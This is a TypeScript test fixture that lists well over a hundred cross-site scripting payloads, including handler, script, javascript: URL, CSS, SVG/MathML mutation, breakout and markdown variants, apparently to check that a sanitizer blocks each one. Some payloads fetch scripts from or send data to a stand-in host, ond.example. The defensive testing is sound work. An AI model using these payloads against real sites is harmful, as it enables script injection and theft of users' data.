/**
 * What attackers type, by what they count on: after OWASP's lists of what gets past a filter, and the published
 * advisories of the library that is our last gate. `RUN` is the call that must never come.
 */
export type Attack = { name: string; text: string };

type Written = Record<string, string | ((run: string) => string)>;

const far = "https://ond.example";
const base64 = (text: string) => Buffer.from(text).toString("base64");
const decimal = (text: string) => [...text].map((letter) => `&#${letter.codePointAt(0)}`).join(";");
const long = (text: string) => [...text].map((letter) => `&#${String(letter.codePointAt(0)).padStart(7, "0")}`).join("");
const hex = (text: string) => [...text].map((letter) => `&#x${letter.codePointAt(0)!.toString(16)};`).join("");

/** Elements that call when something happens to them, most of them without anybody's doing. */
const handlers: Written = {
  "img onerror": "<img src=x onerror=RUN>",
  "img onerror, quoted": '<img src="x" onerror="RUN">',
  "img onerror, single quotes": "<img src='x' onerror='RUN'>",
  "img onerror, grave accents": "<img src=`x` onerror=RUN>",
  "img onerror, slashes for spaces": "<img/src=x/onerror=RUN>",
  "img onerror, a form feed for a space": "<img\fsrc=x\fonerror=RUN>",
  "img onerror, line breaks for spaces": "<img\nsrc=x\nonerror\n=\nRUN>",
  "img onerror, mixed case": "<ImG sRc=x OnErRoR=RUN>",
  "img onerror, never closed": "<img src=x onerror=RUN //",
  "img onerror, quotes astray": '<IMG """><SCRIPT>RUN</SCRIPT>"\\>',
  "img onerror, entities": (run) => `<img src=x onerror="${hex(run)}">`,
  "img onerror, entities without semicolons": (run) => `<img src=x onerror="${long(run)}">`,
  "img onload": '<img src="/favicon.ico" onload=RUN>',
  "img srcset": '<img srcset="x 1x" onerror=RUN>',
  "image, which is an img": "<image src=x onerror=RUN>",
  "picture": "<picture><source srcset=x><img onerror=RUN></picture>",
  "audio": "<audio src=x onerror=RUN></audio>",
  "video source": "<video><source onerror=RUN></video>",
  "video poster": '<video poster="javascript:RUN" onloadstart=RUN src=x></video>',
  "body onload": "<body onload=RUN>",
  "body onpageshow": "<body onpageshow=RUN>",
  "body onhashchange": "<body onhashchange=RUN><a href=#x>x</a>",
  "input autofocus": "<input autofocus onfocus=RUN>",
  "select autofocus": "<select autofocus onfocus=RUN></select>",
  "textarea autofocus": "<textarea autofocus onfocus=RUN></textarea>",
  "button onclick": "<button onclick=RUN>x</button>",
  "details ontoggle": "<details open ontoggle=RUN>x</details>",
  "marquee onstart": "<marquee onstart=RUN>x</marquee>",
  "tabindex onfocus": '<p tabindex=1 onfocus=RUN id="x">x</p>',
  "contenteditable onblur": "<p contenteditable autofocus onblur=RUN onfocus=RUN>x</p>",
  "an element that nobody knows": "<x onclick=RUN>x</x>",
  "a custom element": "<ond-knapp onmouseover=RUN>x</ond-knapp>",
  "an animation's end": '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=RUN>x</b>',
  "a transition's end": '<b style="transition:color 1s" ontransitionend=RUN>x</b>',
  "a popover": "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=RUN>x</p>",
  "onauxclick on a link": '<a href="https://example.org/" onauxclick=RUN onmouseover=RUN>x</a>',
  "onscrollend": "<div onscrollend=RUN onwheel=RUN>x</div>",
  "isindex": "<isindex type=image src=1 onerror=RUN>",
};

/** Scripts that are said to be scripts. */
const scripts: Written = {
  "a script": "<script>RUN</script>",
  "a script in capitals": "<SCRIPT>RUN</SCRIPT>",
  "a script with a slash": "<script/x>RUN</script>",
  "a script with a space at its end": "<script >RUN</script >",
  "a script twice opened": "<<script>RUN//<</script>",
  "a script within a script": "<scr<script>ipt>RUN</scr</script>ipt>",
  "a script never closed": "<script>RUN//",
  "a script with a NUL": "<scr\0ipt>RUN</scr\0ipt>",
  "a script from elsewhere": `<script src=${far}/x.js></script>`,
  "a script from elsewhere, without a scheme": "<script src=//ond.example/x.js></script>",
  "a script from elsewhere, half open": `<script src=${far}/x.js?<b>`,
  "a script out of data": (run) => `<script src="data:text/javascript,${run}"></script>`,
  "a module": '<script type=module>RUN</script><link rel=modulepreload href="//ond.example/x.js">',
  "an import map": '<script type=importmap>{"imports":{"x":"//ond.example/x.js"}}</script>',
  "speculation rules": '<script type=speculationrules>{"prerender":[{"urls":["/redaktion/"]}]}</script>',
  "a script in a comment": "<!--><script>RUN</script>-->",
  "a script after a broken comment": "<!--a--!><script>RUN</script>",
  "a comment with a condition": "<!--[if gte IE 4]><script>RUN</script><![endif]--><script>RUN</script>",
  "CDATA": "<![CDATA[><script>RUN</script>]]>",
  "a processing instruction": '<?xml version="1.0"?><script>RUN</script>',
  "a declaration": '<!DOCTYPE x [<!ENTITY y "z">]><script>RUN</script>',
  "a server's include": '<!--#exec cmd="/bin/echo"--><script>RUN</script>',
  "letters as wide as two": "＜script＞RUN＜/script＞<script>RUN</script>",
  "another alphabet's s": "<ſcript>RUN</ſcript><script>RUN</script>",
  "UTF-7": "+ADw-script+AD4-RUN+ADw-/script+AD4-<script>RUN</script>",
};

/** Addresses that run instead of leading somewhere. */
const addresses: Written = {
  "javascript:": '<a href="javascript:RUN">x</a>',
  "javascript: in mixed case": '<a href="JaVaScRiPt:RUN">x</a>',
  "javascript: with a tab": '<a href="jav\tascript:RUN">x</a>',
  "javascript: with a tab as an entity": '<a href="jav&#x09;ascript:RUN">x</a>',
  "javascript: with a line break as an entity": '<a href="jav&#x0A;ascript:RUN">x</a>',
  "javascript: with a return as an entity": '<a href="jav&NewLine;ascript&colon;RUN">x</a>',
  "javascript: after a control character": '<a href=" &#14; javascript:RUN">x</a>',
  "javascript: in decimal entities": (run) => `<a href="${decimal(`javascript:${run}`)}">x</a>`,
  "javascript: in long entities": (run) => `<a href="${long(`javascript:${run}`)}">x</a>`,
  "javascript: in hexadecimal entities": (run) => `<a href="${hex(`javascript:${run}`)}">x</a>`,
  "javascript: with a comment": '<a href="javascript://ond.example/%0ARUN">x</a>',
  "javascript: that looks like https:": '<a href="javascript:https://example.org/;RUN">x</a>',
  "javascript: in another window": '<a target=_blank href="javascript:RUN">x</a>',
  "vbscript:": '<a href="vbscript:RUN">x</a>',
  "data: of HTML": '<a href="data:text/html,<script>RUN</script>">x</a>',
  "data: of HTML in base64": (run) => `<a href="data:text/html;base64,${base64(`<script>${run}</script>`)}">x</a>`,
  "data: of SVG": '<a href="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22/>">x</a>',
  "blob:, filesystem: and view-source:": '<a href="blob:null/x">x</a><a href="filesystem:x">x</a><a href="view-source:x">x</a>',
  "an area of a map": '<map name=x><area shape=default href="javascript:RUN"></map>',
  "ping": `<a href="/om/" ping="${far}/ping">x</a><img src=x>`,
  "img src": '<img src="javascript:RUN">',
  "iframe src": '<iframe src="javascript:parent.RUN"></iframe>',
  "iframe srcdoc": "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
  "iframe srcdoc in entities": (run) => `<iframe srcdoc="${hex(`<script>parent.${run}</script>`)}"></iframe>`,
  "iframe of data": '<iframe src="data:text/html,<script>parent.RUN</script>"></iframe>',
  "object data": '<object data="javascript:RUN"></object>',
  "object of data": (run) => `<object type="text/html" data="data:text/html;base64,${base64(`<script>${run}</script>`)}"></object>`,
  "embed": '<embed src="javascript:RUN">',
  "applet": `<applet code=x archive=${far}/x.jar></applet>`,
  "frameset": '<frameset onload=RUN><frame src="javascript:RUN"></frameset><b>x</b>',
  "portal and fencedframe": '<portal src="javascript:RUN"></portal><fencedframe src=/om/></fencedframe>',
  "form action": '<form action="javascript:RUN"><input type=submit></form>',
  "formaction": '<form id=x></form><button form=x formaction="javascript:RUN">x</button>',
  "isolated formaction": '<form><input type=image src=x formaction="javascript:RUN"></form>',
  "a form that sends elsewhere": `<form action=${far}><input name=kod></form>`,
  "base": '<base href="javascript:/RUN//"><a href=x>x</a>',
  "base elsewhere": `<base href=${far}/><a href=x>x</a>`,
  "meta refresh": '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  "meta refresh to data": '<meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">',
  "meta policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>RUN</script>",
  "link to a stylesheet": `<link rel=stylesheet href=${far}/x.css>`,
  "link that fetches ahead": `<link rel=prefetch href=${far}/x><link rel=dns-prefetch href=//ond.example>`,
  "a table's background": '<table background="javascript:RUN"><tr><td background="javascript:RUN">x</table>',
};

const styles: Written = {
  "style with @import": `<style>@import'${far}/x.css';</style>`,
  "style with @import in entities": `<style>@\\69mport url(${far}/x.css);</style>`,
  "style that reads what is typed": `<style>input[value^=a]{background:url(${far}/a)}</style>`,
  "expression": '<div style="width:expression(RUN)">x</div>',
  "expression, cut by comments": '<div style="xss:expr/*x*/ession(RUN)">x</div>',
  "url of javascript:": '<div style="background:url(javascript:RUN)">x</div>',
  "binding": `<div style="-moz-binding:url(${far}/x.xml#x)">x</div>`,
  "behavior": `<div style="behavior:url(${far}/x.htc)">x</div>`,
  "a layer above everything": '<a href="https://example.org/" style="position:fixed;inset:0;z-index:9999">x</a>',
  "a style that ends": "<style></style><img src=x onerror=RUN></style>",
};

/** Where a browser reads HTML, SVG and MathML by different rules, and what is safe in one is not in another. */
const namespaces: Written = {
  "svg onload": "<svg onload=RUN>",
  "svg onload with a slash": "<svg/onload=RUN//",
  "svg script": "<svg><script>RUN</script></svg>",
  "svg script in entities": (run) => `<svg><script>${hex(run)}</script></svg>`,
  "svg script from elsewhere": `<svg><script href="${far}/x.js" /></svg>`,
  "svg a": '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  "svg animate": "<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>",
  "svg animate onbegin": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
  "svg use": (run) => `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${run}"/></svg>`)}#x"/></svg>`,
  "svg image": "<svg><image href=x onerror=RUN /></svg>",
  "svg foreignObject": "<svg><foreignObject><math><mtext><style><img src=x onerror=RUN></style></mtext></math></foreignObject></svg>",
  "svg desc": "<svg><desc><style><img src=x onerror=RUN></style></desc></svg>",
  "svg title": "<svg><title><style><!--</style><img src=x onerror=RUN>--></title></svg>",
  "svg closed by a paragraph": '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  "svg style in a comment": "<svg><style><!--</style><img src=x onerror=RUN>--></svg>",
  "math href": '<math href="javascript:RUN">x</math>',
  "math xlink": '<math><mi xlink:href="javascript:RUN">x</mi></math>',
  "math maction": '<math><maction actiontype="statusline#x" xlink:href="javascript:RUN">x</maction></math>',
  "mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  "mglyph out of a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
  "malignmark": "<math><mtext><malignmark><style><!--</style><img src=x onerror=RUN>--></malignmark></mtext></math>",
  "annotation-xml of another kind": '<math><annotation-xml encoding="x"><a title="</annotation-xml><img src=x onerror=RUN>">x</annotation-xml></math>',
  "a table that throws out": "<table><svg><style><a title='</style><img src=x onerror=RUN>'></table>",
  "a select that throws out": "<select><style></select><img src=x onerror=RUN></style>",
  "a select that copies": "<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=RUN></option></select>",
  "noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  "noembed": '<noembed><a title="</noembed><img src=x onerror=RUN>">x',
  "noframes": '<noframes><a title="</noframes><img src=x onerror=RUN>">x',
  "xmp": '<xmp><a title="</xmp><img src=x onerror=RUN>">x</xmp>',
  "listing and plaintext": '<listing><img src=x onerror=RUN></listing><plaintext>',
  "template": "<template><img src=x onerror=RUN></template><script>RUN</script>",
  "a shadow": "<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>",
  "a form within a form": "<form><div></form><form action=javascript:RUN><input type=submit>",
  "a doubled attribute": '<img src=x alt="" onerror=RUN alt="onerror=x">',
  "a name that clobbers": "<a id=ran></a><form id=document name=body><input name=cookie></form><img name=currentScript>",
};

/** Out of where the text stands: an attribute, a title, a field, a script of data. */
const breakouts: Written = {
  "out of double quotes": '"><script>RUN</script>',
  "out of single quotes": "'><script>RUN</script>",
  "out of an attribute into another": '" autofocus onfocus="RUN" x="',
  "out of single quotes into another": "' autofocus onfocus='RUN' x='",
  "out of an attribute without quotes": "x onmouseover=RUN",
  "out of grave accents": "``onmouseover=RUN",
  "out of a text field": "</textarea><script>RUN</script>",
  "out of a text field in capitals": "</TEXTAREA\n><img src=x onerror=RUN>",
  "out of a text field, a line below": "\n\n</textarea ><svg onload=RUN>",
  "out of a title": "</title><script>RUN</script>",
  "out of a style": "</style><script>RUN</script>",
  "out of a script": "</script><script>RUN</script>",
  "out of a script in capitals": "</SCRIPT ><script>RUN</script>",
  "out of a script's data": '"}</script><img src=x onerror=RUN><script>',
  "out of a script's text": '";RUN;//',
  "out of a script's text, escaped": '\\";RUN;//',
  "out of a script's text by a line": "\u2028RUN\u2029",
  "out of a template": "${RUN}{{RUN}}#{RUN}<%= RUN %>",
  "into a script's comment": "<!--<script>RUN</script>",
  "out of a comment": "--><script>RUN</script>",
  "out of a list and an option": "</option></select></li></ul><script>RUN</script>",
  "out of a document": "</main></body></html><script>RUN</script>",
  "out of a heading and a link": "</a></h1><img src=x onerror=RUN>",
  "out of a feed": "]]></title><script xmlns='http://www.w3.org/1999/xhtml'>RUN</script>",
  "an entity of a document": "&x;<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/hosts'>]>",
  "entities that a second reader opens": "&lt;script&gt;RUN&lt;/script&gt;",
  "entities twice": "&amp;lt;img src=x onerror=RUN&amp;gt;",
  "percent signs": "%3Cscript%3ERUN%3C/script%3E",
  "escapes of a script": "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
  "text that is left hanging": `<img src='${far}/?`,
  "a form that is left hanging": `<form action=${far}><textarea name=x>`,
  "a target that is left hanging": '<a href="https://example.org/" target="',
  "front matter": "+++\ntitel = '<script>RUN</script>'\nstatus = 'publicerad'\n+++\n<script>RUN</script>",
  "front matter within a field": "x'''\n+++\n\n<script>RUN</script>",
  "a header": "x\r\nContent-Security-Policy: script-src *\r\n\r\n<script>RUN</script>",
  "text that runs the other way": "\u202e<script>RUN</script>\u202c",
  "an array of a query": "x&q=<script>RUN</script>&q[]=1",
  "a way on": "//ond.example/%2f..",
  "a way on that runs": "javascript:RUN//",
};

/** Through markdown's own marks. */
const markdown: Written = {
  "link": "[x](javascript:RUN)",
  "link in mixed case": "[x](JaVaScRiPt:RUN)",
  "link with an entity": "[x](javascript&#58;RUN)",
  "link with a named entity": "[x](javascript&colon;RUN)",
  "link with a tab": "[x](java&Tab;script:RUN)",
  "link in angle brackets": "[x](<javascript:RUN>)",
  "link in angle brackets over a tab": "[x](<java\tscript:RUN>)",
  "link after a control character": "[x](\u0001javascript:RUN)",
  "link with a backslash": "[x](javascript\\:RUN)",
  "link with percent signs": "[x](javascript%3ARUN)",
  "link to data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "link to vbscript": "[x](vbscript:RUN)",
  "link out of its attribute": '[x](https://example.org/"onmouseover="RUN)',
  "link out of its attribute, escaped": "[x](https://example.org/&quot;onmouseover=&quot;RUN)",
  "link of ours out of its attribute": '[x](/om/"><script>RUN</script>)',
  "link to a place out of its attribute": "[x](#x\"onfocus=\"RUN)",
  "link with a title": "[x](/om/ '\" onmouseover=\"RUN')",
  "link without a scheme": "[x](//ond.example)",
  "link with backslashes": "[x](/\\ond.example) [x](\\\\ond.example)",
  "link that says another name": "[x](https://example.org@ond.example/)",
  "link within a link": "[a [b](javascript:RUN) c](https://example.org/)",
  "mail": "[x](mailto:a@example.org?subject=\"><script>RUN</script>)",
  "mail in angle brackets": "<\"onmouseover=RUN//@example.org>",
  "telephone": "[x](tel:112\"onclick=\"RUN)",
  "reference": "[x][y]\n\n[y]: javascript:RUN \"<script>\"",
  "reference with a title": "[x][y]\n\n[y]: /om/ '\"><img src=x onerror=RUN>'",
  "reference by a name that runs": "[<img src=x onerror=RUN>]\n\n[<img src=x onerror=RUN>]: /om/",
  "address in angle brackets": "<javascript:RUN>",
  "address of the web in angle brackets": "<https://example.org/\"onmouseover=RUN>",
  "image": "![x](javascript:RUN)",
  "image's words": '![x" onerror="RUN](x)',
  "image's title": "![x](x '\" onerror=\"RUN')",
  "image in a link": "[![x](data:image/svg+xml,x)](javascript:RUN)",
  "heading": "# <script>RUN</script>",
  "heading out of its attribute": '## " onmouseover="RUN',
  "heading with attributes": "## x {#y onclick=RUN .z style=x}",
  "heading that clobbers": "## ran\n\n## document\n\n## innehall",
  "heading as code": "## `<script>RUN</script>`",
  "heading by a line below": "<img src=x onerror=RUN>\n======",
  "table": "|<script>RUN</script>|\n|---|\n|<img src=x onerror=RUN>|",
  "table as code": "|`<script>RUN</script>`|\n|---|\n|`</td><img src=x onerror=RUN>`|",
  "fence out of its class": '```"><script>RUN</script>\nx\n```',
  "fence's kind": '``` x" onclick="RUN\nx\n```',
  "fence that ends": "```\n</code></pre><script>RUN</script>\n```",
  "fence that never ends": "~~~\n</code></pre><script>RUN</script>",
  "indented code": "    </code></pre><script>RUN</script>",
  "code in a line": "`</code><script>RUN</script>`",
  "backslashes": "\\<script\\>RUN\\</script\\>",
  "footnote": 'x[^"><script>]\n\n[^"><script>]: <img src=x onerror=RUN>',
  "footnote as code": "x[^y]\n\n[^y]: `<script>RUN</script>`",
  "notice": "> [!NOTE]\n> <script>RUN</script>",
  "notice of no kind": "> [!\"><img src=x onerror=RUN>]\n> x",
  "word and meaning": "`<script>RUN</script>`\n: `<img src=x onerror=RUN>`",
  "a citation out of its attribute": '19 kap. 1 § SoL" onmouseover="RUN',
  "a citation in a link that runs": "[19 kap. 1 § SoL](javascript:RUN)",
  "emphasis that opens a tag": "*<img src=x* onerror=RUN>",
  "a tag over two lines of a list": "- <img src=x\n- onerror=RUN>",
  "HTML between markdown": "<div\n\nonclick=RUN>x</div>",
  "HTML in a quotation": "> <iframe srcdoc='<script>parent.RUN</script>'>",
  "a NUL": "a\0<script\0>RUN</script>",
};

/** The published advisories of ammonia, each by a text of its kind. */
const advisories: Written = {
  "RUSTSEC-2019-0001, deep nesting": () => `${"<b>".repeat(6000)}x`,
  "RUSTSEC-2019-0001, deep nesting of markdown": () => `${"> ".repeat(3000)}${"[".repeat(3000)}x<script>`,
  "RUSTSEC-2021-0074, iframe in svg": '<svg><iframe><a title="</iframe><img src=x onerror=RUN>">x',
  "RUSTSEC-2021-0074, style in math": '<math><style><a title="</style><img src=x onerror=RUN>">x',
  "RUSTSEC-2021-0074, title in svg": '<svg><title><a title="</title><img src=x onerror=RUN>">x',
  "RUSTSEC-2021-0157, quotes in url()": `<div style='background:url("cid:\\");color:expression(RUN);background:url(\\"${far}")'>x</div>`,
  "RUSTSEC-2022-0003, form feed": "x\fonmouseover=RUN\fy<b title=x\fonclick=RUN>x</b>",
  "RUSTSEC-2025-0071, style left behind by svg": '<svg><p><style><g title="</style><img src=x onerror=RUN>">',
  "RUSTSEC-2025-0071, xmp left behind by math": '<math><mi><xmp><a title="</xmp><img src=x onerror=RUN>">',
  "RUSTSEC-2026-0193, annotation-xml that loses its encoding": '<math><annotation-xml encoding="text/html"><style><a title="</style><img src=x onerror=RUN>"></style></annotation-xml></math>',
  "RUSTSEC-2026-0193, annotation-xml as XHTML": '<math><annotation-xml encoding="application/xhtml+xml"><noscript><a title="</noscript><img src=x onerror=RUN>">x</noscript></annotation-xml></math>',
  "RUSTSEC-2026-0213, set": '<svg><a><set attributeName="href" to="javascript:RUN"></set><text y=20>x</text></a></svg>',
  "RUSTSEC-2026-0213, animate from": '<svg><a><animate attributeName="xlink:href" from="javascript:RUN" to="#"></animate><text y=20>x</text></a></svg>',
  "RUSTSEC-2026-0373, URL() in capitals": `<div style='background:URL("${far}/ping")'>x</div>`,
};

let number = 0;
const calls = (kind: Written): Attack[] =>
  Object.entries(kind).map(([name, written]) => {
    const run = `ran(${++number})`;
    return { name, text: typeof written === "string" ? written.replaceAll("RUN", run) : written(run) };
  });

const elements = calls(handlers);
const code = [...calls(scripts), ...calls(styles)];
const leading = calls(addresses);
const languages = [...calls(namespaces), ...calls(advisories)];

export const kinds = {
  "elements that call": elements,
  "scripts and styles": code,
  "addresses that run": leading,
  "what is read by different rules, and the published advisories": languages,
  "ways out of where the text stands": calls(breakouts),
  "what markdown makes of it": calls(markdown),
};

export const attacks = Object.values(kinds).flat();

/** Those that bite wherever they are put into a page as they are. The others need a reader in between. */
export const bare = [...elements, ...code, ...leading, ...languages];

/** The attack that makes this call. */
export const named = (call: unknown): string => attacks.find(({ text }) => text.includes(`ran(${String(call)})`))?.name ?? `call ${String(call)}`;
